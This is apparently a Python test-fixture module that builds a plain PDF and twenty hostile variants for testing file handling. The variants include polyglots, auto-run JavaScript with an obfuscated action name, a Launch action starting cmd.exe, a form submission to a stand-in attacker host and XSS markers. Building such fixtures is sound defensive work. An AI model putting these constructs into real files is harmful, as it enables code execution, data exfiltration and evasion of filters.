"""PDF files for tests: a plain flyer, and twenty that pretend to be one or do more than show pages."""

import io
import zipfile
from collections.abc import Callable
from functools import cache

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

PAYLOAD = b"<script>alert(1)</script>"


@cache
def flyer(pages: int = 1) -> bytes:
    """A plain one, made by "Beate Amt"."""
    return made(lambda writer: None, pages)


def made(change: Callable[[PdfWriter], None], pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    writer.add_metadata({"/Title": "Geheim", "/Author": "Beate Amt", "/Creator": "Amtsprogramm 7"})
    writer.xmp_metadata = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><dc>Beate Amt</dc></x:xmpmeta>"
    change(writer)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def names(**entries: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): _as_object(value) for name, value in entries.items()})


def _as_object(value: object) -> object:
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    return ArrayObject(value) if isinstance(value, list) else value


def _opening(action: DictionaryObject) -> bytes:
    return made(lambda writer: writer.root_object.update({NameObject("/OpenAction"): action}))


def _link(action: DictionaryObject) -> bytes:
    def add(writer: PdfWriter) -> None:
        note = names(Type="/Annot", Subtype="/Link", A=action)
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return made(add)


def _in_stream(writer: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"% " + PAYLOAD)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)


def _archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("index.html", PAYLOAD)
    return file.getvalue()


@cache
def polyglots() -> dict[str, bytes]:
    """Twenty files by what they are besides, or do."""
    plain, script = flyer(), names(S="/JavaScript", JS="app.alert(1)")
    head, rest = plain[:9], plain[9:]
    return {
        "HTML in front": b"<html>" + PAYLOAD + plain,
        "GIF in front": b"GIF89a/*" + plain,
        "JPEG in front": b"\xff\xd8\xff\xe0\x00\x10JFIF" + plain,
        "SVG in front": b"<svg xmlns='http://www.w3.org/2000/svg'>" + PAYLOAD + plain,
        "a program in front": b"MZ\x90\x00" + plain,
        "an empty line in front": b"\n" + plain,
        "HTML in a comment": head + b"%" + PAYLOAD + b"\n" + rest,
        "HTML behind": plain + b"\n" + PAYLOAD,
        "an archive behind": plain + _archive(),
        "HTML as title": made(lambda writer: writer.add_metadata({"/Title": PAYLOAD.decode()})),
        "HTML in a page": made(_in_stream),
        "runs a script": _opening(script),
        "hides the name of a script": _opening(script).replace(b"/JavaScript", b"/J#61vaScript"),
        "starts a program": _opening(names(S="/Launch", F="cmd.exe")),
        "sends a form": _link(names(S="/SubmitForm", F="https://evil.example/")),
        "opens another file": _link(names(S="/GoToR", F="other.pdf")),
        "leads to a script": _link(names(S="/URI", URI="javascript:alert(1)")),
        "has a form of its own": made(
            lambda writer: writer.root_object.update({NameObject("/AcroForm"): names(XFA="<xdp/>")})
        ),
        "has a file within": made(lambda writer: writer.add_attachment("index.html", PAYLOAD) and None),
        "is only a head": b"%PDF-1.7\n" + PAYLOAD,
    }
